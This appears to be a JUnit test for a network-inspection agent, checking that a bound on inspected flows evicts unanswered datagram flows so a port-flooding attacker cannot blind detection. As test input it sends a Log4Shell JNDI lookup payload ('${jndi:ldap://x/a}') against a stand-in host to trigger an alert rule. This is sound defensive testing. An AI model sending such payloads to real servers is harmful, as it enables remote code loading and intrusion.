package io.netwatch.agent.inspect;

import static io.netwatch.agent.Frames.*;
import static org.junit.jupiter.api.Assertions.*;

import io.netwatch.agent.Pipeline;
import io.netwatch.agent.capture.LinkType;
import io.netwatch.agent.flow.FlowTableConfig;
import io.netwatch.agent.score.AnomalySink;
import io.netwatch.agent.score.DetectionConfig;
import io.netwatch.proto.flow.v1.Flow;
import io.netwatch.proto.flow.v1.InspectionLimit;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The bound on flows inspected at once, against one pod that fills it on purpose: a datagram
 * of one byte to each of as many ports as the bound, again each minute (a thousand a second
 * at the default bound, from a plain socket), and no flow after them was inspected. A new
 * flow must find room: the inspection of an unanswered flow, else of the least recently
 * active, makes way for it (counted); a flow inspection is done with does not hold a place.
 */
class InspectedFlowsCapTest {
    private static final int CAP = 8;

    private final List<Flow> flows = new ArrayList<>();
    private final List<InspectionEvent> events = new ArrayList<>();
    private final Pipeline pipeline = Pipeline.create("n", List.of("eth0"), FlowTableConfig.defaults(),
            DetectionConfig.defaults(), new InspectionConfig(64 * 1024, 64 * 1024, ReassemblyBudget.DEFAULT_BYTES, CAP),
            flows::add, AnomalySink.NONE, events::add);
    private long t = 1_700_000_000_000_000_000L;

    private static final byte[] ATTACKER = ipv4(10, 0, 0, 66);
    private static final String ATTACKER_IP = "10.0.0.66";
    private static final byte[] CLIENT = ipv4(10, 0, 0, 1);
    private static final byte[] SERVER = ipv4(10, 0, 0, 2);

    private void segment(byte[] src, int sport, byte[] dst, int dport, int flags, int seq, String data) {
        byte[] payload = data.getBytes(StandardCharsets.ISO_8859_1);
        byte[] tcp = tcp(sport, dport, flags, seq, payload.length);
        System.arraycopy(payload, 0, tcp, 20, payload.length);
        byte[] f = ethernet(0x0800, ipv4Packet(src, dst, 6, tcp));
        pipeline.onPacket(ByteBuffer.wrap(f), LinkType.ETHERNET, t += 1000, f.length, 0);
    }

    private void datagram(byte[] src, int sport, byte[] dst, int dport, byte[] payload) {
        byte[] udp = udp(sport, dport, payload.length);
        System.arraycopy(payload, 0, udp, 8, payload.length);
        byte[] f = ethernet(0x0800, ipv4Packet(src, dst, 17, udp));
        pipeline.onPacket(ByteBuffer.wrap(f), LinkType.ETHERNET, t += 1000, f.length, 0);
    }

    private void exploit(int cport) {
        segment(CLIENT, cport, SERVER, 80, 0x02, 100, "");
        segment(SERVER, 80, CLIENT, cport, 0x12, 500, "");
        segment(CLIENT, cport, SERVER, 80, 0x10, 101, "");
        segment(CLIENT, cport, SERVER, 80, 0x18, 101, "GET /?q=${jndi:ldap://x/a} HTTP/1.1\r\nHost: h\r\n\r\n");
    }

    private long log4ShellAlerts() {
        return events.stream().filter(e -> e instanceof InspectionEvent.Alert a && a.rule().sid() == 9100001).count();
    }

    @Test
    void aNewFlowIsInspectedAfterOnePodSentADatagramToAsManyPortsAsTheBound() {
        for (int port = 0; port < CAP; port++) {
            datagram(ATTACKER, 50000, SERVER, 20000 + port, new byte[] {1});
        }
        exploit(40000);
        assertEquals(1, log4ShellAlerts());
        Inspector i = pipeline.inspector();
        assertEquals(0, i.uninspectedFlows());
        assertEquals(1, i.evictedFlows(), "an unanswered datagram's inspection made way, counted");
        pipeline.finish();
        List<Flow> cut = flows.stream().filter(f -> f.getInspectionLimit() != InspectionLimit.INSPECTION_LIMIT_NONE).toList();
        assertEquals(1, cut.size(), "one record says its inspection was cut short: " + cut);
        assertEquals(InspectionLimit.INSPECTION_LIMIT_EVICTED, cut.get(0).getInspectionLimit());
        assertEquals(ATTACKER_IP, cut.get(0).getSource().getIp(), "the datagram's flow made way, not the exploit's");
    }

    /**
     * A flow turned away at the bound (no flow holding a place was found among those sampled)
     * is never inspected: its record says so, as many records as the count.
     */
    @Test
    void aFlowNeverInspectedSaysSoInItsRecord() {
        Pipeline one = Pipeline.create("n", List.of("eth0"), FlowTableConfig.defaults(), DetectionConfig.defaults(),
                new InspectionConfig(64 * 1024, 64 * 1024, ReassemblyBudget.DEFAULT_BYTES, 1), flows::add,
                AnomalySink.NONE, events::add);
        byte[] query = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 1, 'a', 0, 0, 1, 0, 1};
        // DNS flows hold no place but spread the inspected flows over many slots, so that the
        // sample of makeWay seldom finds the one flow that holds the only place.
        for (int k = 0; k < 20_000; k++) {
            sendTo(one, udpFrame(ATTACKER, 1024 + k / 40, SERVER, 53, query, k));
        }
        for (int port = 0; port < 64; port++) {
            sendTo(one, udpFrame(ATTACKER, 50000, SERVER, 20000 + port, new byte[] {1}, 0));
        }
        long refused = one.inspector().uninspectedFlows();
        assertTrue(refused > 0, "some flow was turned away");
        one.finish();
        assertEquals(refused, flows.stream()
                .filter(f -> f.getInspectionLimit() == InspectionLimit.INSPECTION_LIMIT_FLOWS).count());
        assertTrue(flows.stream().anyMatch(f -> f.getAppProto().equals("dns")
                && f.getInspectionLimit() == InspectionLimit.INSPECTION_LIMIT_NONE));
    }

    private static byte[] udpFrame(byte[] src, int sport, byte[] dst, int dport, byte[] payload, int k) {
        byte[] udp = udp(sport, dport, payload.length);
        System.arraycopy(payload, 0, udp, 8, payload.length);
        // Forty queries from each source port, each to its own resolver address: 20,000 flows.
        byte[] to = dport == 53 ? ipv4(10, 1, (k / 250) % 250, k % 250 + 1) : dst;
        return ethernet(0x0800, ipv4Packet(src, to, 17, udp));
    }

    private void sendTo(Pipeline p, byte[] f) {
        p.onPacket(ByteBuffer.wrap(f), LinkType.ETHERNET, t += 1000, f.length, 0);
    }

    @Test
    void anUnansweredFlowMakesWayBeforeAnsweredOnes() {
        // Answered connections whose inspection goes on (their first bytes name no protocol,
        // and the rules read on), and as many unanswered datagrams: one of these goes.
        for (int k = 0; k < CAP / 2; k++) {
            segment(ATTACKER, 50000 + k, SERVER, 9000, 0x02, 100, "");
            segment(SERVER, 9000, ATTACKER, 50000 + k, 0x12, 500, "");
            segment(ATTACKER, 50000 + k, SERVER, 9000, 0x18, 101, "x");
            datagram(ATTACKER, 50100, SERVER, 30000 + k, new byte[] {1});
        }
        exploit(40001);
        assertEquals(1, pipeline.inspector().evictedFlows());
        for (int k = 0; k < CAP / 2; k++) {
            segment(ATTACKER, 50000 + k, SERVER, 9000, 0x18, 102, "${jndi:ldap://x/a}");
        }
        assertEquals(1 + CAP / 2, log4ShellAlerts(), "the exploit's flow and every answered one were still inspected");
    }

    @Test
    void flowsInspectionIsDoneWithHoldNoPlace() {
        // DNS queries answered and read: each flow keeps its summary for its record, no more.
        for (int i = 0; i < 4 * CAP; i++) {
            byte[] query = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 1, 'a', 0, 0, 1, 0, 1};
            datagram(ATTACKER, 50000 + i, SERVER, 53, query);
        }
        exploit(40002);
        assertEquals(1, log4ShellAlerts());
        assertEquals(0, pipeline.inspector().evictedFlows(), "no inspection had to make way");
        pipeline.finish();
        assertEquals(4 * CAP, flows.stream().filter(f -> f.getAppProto().equals("dns")).count(),
                "the DNS flows' records keep what was learnt");
    }
}
